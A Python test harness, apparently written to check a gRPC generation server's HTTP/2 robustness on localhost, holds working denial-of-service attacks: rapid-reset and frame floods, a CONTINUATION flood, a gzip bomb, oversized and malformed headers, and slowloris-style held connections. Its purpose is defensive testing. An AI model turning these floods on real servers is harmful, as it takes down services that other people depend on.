"""Attacks on a server's HTTP/2, one at a time.

    hostile_http2.py ATTACK PORT SECONDS [--many] [--tls]

Repeats the attack on 127.0.0.1:PORT for SECONDS, at least once, and prints one
JSON object: what was sent and what the server did. The exit code is 0 when the
attack ran, whatever the server did, and 3 when nobody took the first
connection. `--many`: at the size of a long run. `--tls`: inside TLS, whoever
the server is. `list` prints the attacks.

Row numbers are those of tests/BAD_INPUTS.md. Needs python3-hpack and
python3-hyperframe for what is well formed; what is not is made by hand. (Over
500 lines: a list of attacks, each a few lines on the same connection.)
"""

import errno
import gzip
import json
import resource
import select
import socket
import ssl
import struct
import sys
import time

import hpack
import hyperframe.frame as frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GENERATE = "/descant.v1.GenerationService/Generate"
STREAM = "/descant.v1.GenerationService/GenerateStream"
# A GenerateRequest: text "Hello" (field 2), stopping (7) with max_tokens (1)
# 400 and ignore_eos (4).
REQUEST = bytes([0x12, 5]) + b"Hello" + bytes([0x3A, 5, 0x08, 0x90, 3, 0x20, 1])
STREAM_REQUEST = bytes([0x0A, len(REQUEST)]) + REQUEST

TLS = "--tls" in sys.argv
NOT_YET = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)

END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 8, 9)


def raw_frame(kind, flags, stream, payload=b""):
    return (struct.pack(">I", len(payload))[1:] + bytes([kind, flags])
            + struct.pack(">I", stream) + payload)


def message(payload, flag=0, length=None):
    """A gRPC message: flag, length, payload."""
    size = len(payload) if length is None else length
    return bytes([flag]) + struct.pack(">I", size) + payload


def header_block(path=GENERATE, extra=(), replace=None):
    headers = {
        ":method": "POST", ":scheme": "http", ":path": path,
        ":authority": "localhost", "te": "trailers",
        "content-type": "application/grpc",
    }
    headers.update(replace or {})
    # Nothing that the decoder would have to remember: the block is good on any
    # stream of any connection.
    fields = [hpack.NeverIndexedHeaderTuple(*item) for item in headers.items()]
    fields += [hpack.NeverIndexedHeaderTuple(*item) for item in extra]
    return hpack.Encoder().encode(fields, huffman=False)


class Report:
    """What happened, over all connections of an attack."""

    def __init__(self):
        self.counts = {"connections": 0, "refused": 0, "closed": 0, "sent": 0}
        self.goaways = {}
        self.resets = {}
        self.statuses = {}

    def add(self, key, count=1):
        self.counts[key] = self.counts.get(key, 0) + count

    def as_json(self):
        return json.dumps(dict(self.counts, goaways=self.goaways,
                               resets=self.resets, statuses=self.statuses))


class Connection:
    """A connection that counts what comes back, and survives its end."""

    def __init__(self, port, report, settings=None, greet=True, ack=True):
        self.report = report
        self.open = True
        self.buffer = b""
        self.decoder = hpack.Decoder()
        self.ended = set()
        self.greeted = False
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        report.add("connections")
        if TLS:
            self.encrypt()
        self.socket.setblocking(False)
        if greet and self.open:
            first = frames.SettingsFrame(0, settings=settings or {})
            self.send(PREFACE + first.serialize())
            # gRPC's limits on streams and headers count from here on only.
            while ack and self.open and not self.greeted:
                if self.wait(0.05) or self.greeted:
                    break
            if ack:
                self.send(raw_frame(SETTINGS, ACK, 0))

    def send(self, data, count=0):
        """False once the server has closed the connection."""
        view = memoryview(data)
        end = time.monotonic() + 5
        while view and self.open:
            readable, writable = self.ready(1, writes=True)
            if readable:
                self.receive()
            if writable and self.open:
                try:
                    view = view[self.socket.send(view[:1 << 17]):]
                except NOT_YET:
                    pass
                except OSError:
                    self.end()
            if view and time.monotonic() > end:
                self.report.add("blocked")
                return False
        if self.open:
            self.report.add("sent", count)
        return self.open

    def encrypt(self):
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        try:
            self.socket = context.wrap_socket(self.socket)
        except OSError:
            self.end()

    def ready(self, seconds, writes=False):
        """(there is something to read, there is room to write)"""
        poller = select.poll()
        poller.register(self.socket,
                        select.POLLIN | (select.POLLOUT if writes else 0))
        events = sum(event for _, event in poller.poll(1000 * seconds))
        return events & ~select.POLLOUT != 0, events & select.POLLOUT != 0

    def end(self):
        if self.open:
            self.open = False
            self.report.add("closed")
            self.socket.close()

    def receive(self):
        # (TLS gives a record at a time, and may hold more of them.)
        for _ in range(16 if TLS else 1):
            try:
                data = self.socket.recv(1 << 16)
            except NOT_YET:
                break
            except OSError:
                data = b""
            if not data:
                self.end()
                return
            self.buffer += data
        while len(self.buffer) >= 9:
            size = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + size:
                return
            self.take(self.buffer[3], self.buffer[4],
                      int.from_bytes(self.buffer[5:9], "big"),
                      self.buffer[9:9 + size])
            self.buffer = self.buffer[9 + size:]

    def take(self, kind, flags, stream, payload):
        def count(table, key):
            table[key] = table.get(key, 0) + 1
        if kind == SETTINGS:
            self.greeted = True
        elif kind == 7:
            code = int.from_bytes(payload[4:8], "big")
            text = payload[8:40].decode("latin-1")
            count(self.report.goaways, f"{code} {text}".strip())
        elif kind == RST:
            count(self.report.resets, str(int.from_bytes(payload, "big")))
            self.ended.add(stream)
        elif kind == HEADERS:
            for name, value in self.decoder.decode(payload):
                if name == "grpc-status":
                    count(self.report.statuses, value)
                elif name == ":status" and value != "200":
                    count(self.report.statuses, "HTTP " + value)
            if flags & END_STREAM:
                self.ended.add(stream)

    def wait(self, seconds, stream=None):
        """Until the server closes, answers on `stream`, or a while."""
        end = time.monotonic() + seconds
        while self.open and time.monotonic() < end:
            if stream is not None and stream in self.ended:
                return True
            if self.ready(max(0, end - time.monotonic()))[0]:
                self.receive()
        return not self.open

    def close(self):
        if self.open:
            self.open = False
            self.socket.close()


# ---- floods: frames as fast as the server takes them

def flood(make_burst, frames_a_burst=1000, ack=True):
    """make_burst(first stream id) -> (bytes, next stream id)."""
    def run(port, report, end, many):
        while time.monotonic() < end:
            connection = Connection(port, report, ack=ack)
            stream = 1
            while time.monotonic() < end and stream < 0x7FFF0000:
                burst, stream = make_burst(stream)
                if not connection.send(burst, frames_a_burst):
                    break
            connection.close()
            if not connection.open:
                time.sleep(0.01)
    return run


def many_streams(frames_of):
    def burst(stream):
        ids = range(stream, stream + 2000, 2)
        return b"".join(frames_of(i) for i in ids), stream + 2000
    return burst


def repeated(one):
    whole = one * 1000
    return lambda stream: (whole, stream)


_GENERATE_BLOCK = header_block()
_CANCEL = struct.pack(">I", 8)
_REQUEST_MESSAGE = message(REQUEST)


def reset_frames(stream):
    return (raw_frame(HEADERS, END_HEADERS, stream, _GENERATE_BLOCK)
            + raw_frame(RST, 0, stream, _CANCEL))


def request_frames(stream):
    return (raw_frame(HEADERS, END_HEADERS, stream, _GENERATE_BLOCK)
            + raw_frame(DATA, END_STREAM, stream, _REQUEST_MESSAGE))


def open_frames(stream):
    """A call whose message never comes."""
    return raw_frame(HEADERS, END_HEADERS, stream, _GENERATE_BLOCK)


def on_open_stream(one):
    """The same frame again and again on stream 1, which is open."""
    whole = one * 1000

    def burst(stream):
        if stream == 1:
            return raw_frame(
                HEADERS, END_HEADERS, 1, _GENERATE_BLOCK) + whole, 3
        return whole, stream
    return burst


def continuation_flood(port, report, end, many):
    filler = hpack.Encoder().encode(
        [hpack.NeverIndexedHeaderTuple("x-fill", "y" * 1000)], huffman=False)
    part = raw_frame(CONTINUATION, 0, 1, filler) * 100
    while time.monotonic() < end:
        connection = Connection(port, report)
        connection.send(raw_frame(HEADERS, 0, 1, _GENERATE_BLOCK), 1)
        while time.monotonic() < end and connection.send(part, 100):
            pass
        connection.close()


def window_flips(port, report, end, many):
    """Streams with an answer under way while their windows go up and down."""
    flip = b"".join(
        raw_frame(SETTINGS, 0, 0, struct.pack(">HI", 4, size))
        for size in (0, 0x7FFFFFFF)) * 50
    block = header_block(STREAM)
    while time.monotonic() < end:
        connection = Connection(port, report)
        for stream in range(1, 9, 2):
            connection.send(
                raw_frame(HEADERS, END_HEADERS, stream, block)
                + raw_frame(DATA, END_STREAM, stream, message(STREAM_REQUEST)))
        while time.monotonic() < end and connection.send(flip, 100):
            pass
        connection.close()


# ---- once each, again and again

def repeat(attempt, pause=0.01):
    def run(port, report, end, many):
        while True:
            attempt(port, report)
            if time.monotonic() >= end:
                return
            time.sleep(pause)
    return run


def first_bytes(data, closes_within=15):
    """No HTTP/2 at all: the connection has to be closed."""
    def attempt(port, report):
        connection = Connection(port, report, greet=False)
        connection.send(data)
        if not connection.wait(closes_within):
            report.add("left open")
        connection.close()
    return repeat(attempt)


def call(block=None, body=None, settings=None, wait=3, before=b""):
    """One call, with what is wrong about it; its end is counted."""
    def attempt(port, report):
        connection = Connection(port, report, settings)
        connection.send(
            before + raw_frame(HEADERS, END_HEADERS, 1,
                               _GENERATE_BLOCK if block is None else block)
            + raw_frame(DATA, END_STREAM, 1,
                        _REQUEST_MESSAGE if body is None else body), 1)
        if not connection.wait(wait, stream=1):
            report.add("no answer")
        connection.close()
    return repeat(attempt)


def bytes_of(*chunks):
    """Frames, and the connection has to end."""
    def attempt(port, report):
        connection = Connection(port, report)
        connection.send(b"".join(chunks), 1)
        if not connection.wait(3):
            report.add("left open")
        connection.close()
    return repeat(attempt)


def split_headers(block):
    """HEADERS and CONTINUATION frames for a block of any size."""
    parts = [block[i:i + 16000] for i in range(0, len(block), 16000)] or [b""]
    out = raw_frame(HEADERS, END_HEADERS if len(parts) == 1 else 0, 1, parts[0])
    for i, part in enumerate(parts[1:], 2):
        out += raw_frame(
            CONTINUATION, END_HEADERS if i == len(parts) else 0, 1, part)
    return out


def headers_of(block, wait=3, ack=True):
    def attempt(port, report):
        connection = Connection(port, report, ack=ack)
        connection.send(
            split_headers(block)
            + raw_frame(DATA, END_STREAM, 1, _REQUEST_MESSAGE), 1)
        if not connection.wait(wait, stream=1):
            report.add("no answer")
        connection.close()
    return repeat(attempt)


def varint_zeros(count):
    # A literal header whose name's length is 127 + 0 + 0 + ...
    block = b"\x00\x7f" + b"\x80" * count + b"\x00"
    return headers_of(_GENERATE_BLOCK + block)


# ---- connections that hold on

def held(open_one, count, count_many, hold):
    """`count` connections at a time, held for `hold` seconds at most."""
    def run(port, report, end, many):
        size = count_many if many else count
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        wanted = min(hard, size + 100)
        if soft < wanted:
            resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, hard))
        connections = []
        for _ in range(size):
            try:
                connections.append(open_one(port, report))
            except OSError as error:
                report.add("refused")
                if error.errno in (errno.EMFILE, errno.ENFILE):
                    break
        until = max(end, time.monotonic() + hold)
        while time.monotonic() < until:
            poller = select.poll()
            alive = {c.socket.fileno(): c for c in connections if c.open}
            if not alive:
                break
            for number in alive:
                poller.register(number, select.POLLIN)
            for number, _ in poller.poll(200):
                alive[number].receive()
            for connection in alive.values():
                tick = getattr(connection, "tick", None)
                if connection.open and tick is not None:
                    tick()
            time.sleep(0.05)
        report.add("still open", sum(c.open for c in connections))
        for connection in connections:
            connection.close()
    return run


def silent(port, report):
    return Connection(port, report, greet=False)


def greeted(port, report):
    """Idle, but a client's connection like any other."""
    return Connection(port, report)


def half_open(port, report):
    """Says that it sends no more, and keeps the connection."""
    connection = Connection(port, report)
    connection.send(raw_frame(HEADERS, END_HEADERS, 1, header_block(STREAM))
                    + raw_frame(DATA, END_STREAM, 1, message(STREAM_REQUEST)))
    connection.socket.shutdown(socket.SHUT_WR)
    return connection


def zero_window(port, report):
    """A stream whose answer may never be sent."""
    connection = Connection(port, report, settings={4: 0})
    connection.send(raw_frame(HEADERS, END_HEADERS, 1, header_block(STREAM))
                    + raw_frame(DATA, END_STREAM, 1, message(STREAM_REQUEST)))
    return connection


class Trickle(Connection):
    """Sends what is left of it a byte at a time."""

    def __init__(self, port, report, ready, slowly):
        super().__init__(port, report)
        self.send(ready)
        self.slowly = slowly

    def tick(self):
        if self.slowly:
            self.send(self.slowly[:1])
            self.slowly = self.slowly[1:]


def slow_headers(port, report):
    return Trickle(port, report, b"", raw_frame(
        HEADERS, END_HEADERS, 1, header_block(extra=[("x-slow", "z" * 4000)])))


def slow_body(port, report):
    return Trickle(
        port, report, raw_frame(HEADERS, END_HEADERS, 1, _GENERATE_BLOCK),
        raw_frame(DATA, END_STREAM, 1, message(b"\x12\xff\x7f" + b"s" * 16383)))


GZIP_BOMB = gzip.compress(bytes(10 << 20))  # 10 KB

TLS_HELLO = bytes.fromhex("16030100c8010000c40303") + b"\x5a" * 194

ATTACKS = {
    # Row 70. A client of gRPC's never sends a call whose deadline is past.
    "late": call(header_block(extra=[("grpc-timeout", "1n")])),
    # Row 83.
    "garbage": first_bytes(bytes(range(256)) * 4),
    "tls-hello": first_bytes(TLS_HELLO),
    "http1": first_bytes(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    # Row 84.
    "silent": held(silent, 300, 10000, hold=13),
    "many-connections": held(greeted, 200, 10000, hold=2),
    # Row 85.
    "rapid-reset": flood(many_streams(reset_frames)),
    "rapid-reset-requests": flood(many_streams(
        lambda i: request_frames(i) + raw_frame(RST, 0, i, _CANCEL))),
    "streams": flood(many_streams(open_frames)),
    "streams-unacknowledged": flood(many_streams(open_frames), ack=False),
    # Row 86.
    "pings": bytes_of(raw_frame(PING, 0, 0, b"12345678") * 50),
    "ping-flood": flood(repeated(raw_frame(PING, 0, 0, b"12345678"))),
    "settings-flood": flood(repeated(raw_frame(SETTINGS, 0, 0))),
    "priority-flood": flood(many_streams(
        lambda i: raw_frame(PRIORITY, 0, i, b"\0\0\0\0\x10"))),
    "empty-data-flood": flood(on_open_stream(raw_frame(DATA, 0, 1))),
    "window-update-flood": flood(on_open_stream(
        raw_frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)))),
    "continuation-flood": continuation_flood,
    # Row 87.
    "te-x": headers_of(header_block(
        replace={"te": "x"}, extra=[("x-fill", "y" * 9216)])),
    "bad-scheme": headers_of(header_block(
        replace={":scheme": "nonsense"}, extra=[("x-fill", "y" * 9216)])),
    "grpclb-client-stats": headers_of(header_block(
        extra=[("grpclb_client_stats", "x"), ("x-fill", "y" * 9216)])),
    "bad-base64": headers_of(header_block(extra=[("x-bin", "!!!not base64")])),
    "huge-headers": headers_of(header_block(extra=[("x-huge", "h" * 65536)])),
    "huge-unacknowledged": headers_of(
        header_block(extra=[("x-huge", "h" * 65536)]), ack=False),
    "varint-zeros": varint_zeros(1 << 20),
    # Row 88.
    # (Fewer than may run at once: their answers are made like anybody's.)
    "zero-window": held(zero_window, 12, 12, hold=6),
    "window-overflow": bytes_of(
        raw_frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)) * 2),
    "window-flips": window_flips,
    # Row 89.
    "unknown-method": call(header_block("/descant.v1.GenerationService/Nope")),
    "wrong-content-type": call(header_block(
        replace={"content-type": "text/plain"})),
    "unknown-compression": call(
        header_block(extra=[("grpc-encoding", "br")]),
        message(REQUEST, flag=1)),
    "gzip-bomb": call(header_block(extra=[("grpc-encoding", "gzip")]),
                      message(GZIP_BOMB, flag=1)),
    # Row 90.
    "message-flag": call(body=message(REQUEST, flag=0xFF)),
    "message-length": call(body=message(REQUEST, length=0xFFFFFFFF)),
    "truncated-protobuf": call(body=message(REQUEST[:-3])),
    # Frames that HTTP/2 forbids.
    "bad-frames": bytes_of(
        raw_frame(DATA, 0, 0, b"on stream 0")),
    "huge-frame": bytes_of(
        b"\xff\xff\xff" + bytes([DATA, 0]) + struct.pack(">I", 1)
        + b"z" * 100000),
    # Slow and half-dead ones.
    "slow-headers": held(slow_headers, 50, 500, hold=5),
    "slow-body": held(slow_body, 50, 500, hold=5),
    "half-open": held(half_open, 50, 500, hold=5),
}


def main():
    if sys.argv[1:] == ["list"]:
        print("\n".join(ATTACKS))
        return 0
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    report = Report()
    end = time.monotonic() + seconds
    try:
        ATTACKS[name](port, report, end, "--many" in sys.argv)
    except ConnectionError as error:
        report.add("refused")
        if report.counts["connections"] == 0:
            print(report.as_json())
            print(error, file=sys.stderr)
            return 3
    print(report.as_json())
    return 0


if __name__ == "__main__":
    sys.exit(main())
